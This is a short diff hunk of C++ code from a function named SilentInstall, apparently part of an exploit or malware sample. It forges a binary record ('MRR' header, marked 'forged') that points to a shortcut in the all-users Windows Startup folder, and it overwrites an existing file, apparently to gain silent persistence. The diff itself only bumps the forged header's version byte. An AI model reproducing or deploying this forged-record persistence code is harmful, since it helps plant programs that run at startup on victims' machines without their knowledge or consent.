@@ -785,7 +785,7 @@ void SilentInstall()
     const std::string startupLink = "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\Merolin.lnk";
     WriteFile(oldPlace, "not a record");
     CreateDirectoryA(own.c_str(), NULL);
-    std::string forged = std::string("MRR\x01L") + std::string(4, '\0') + startupLink + '\0' + std::string(4, '\0') +
+    std::string forged = std::string("MRR\x02L") + std::string(4, '\0') + startupLink + '\0' + std::string(4, '\0') +
                          std::string(28, '\0') + "forged";
     forged[5] = (char)(startupLink.size() + 1);
     forged[10 + startupLink.size()] = 34;  // the link's head (28 bytes) and its 6 bytes
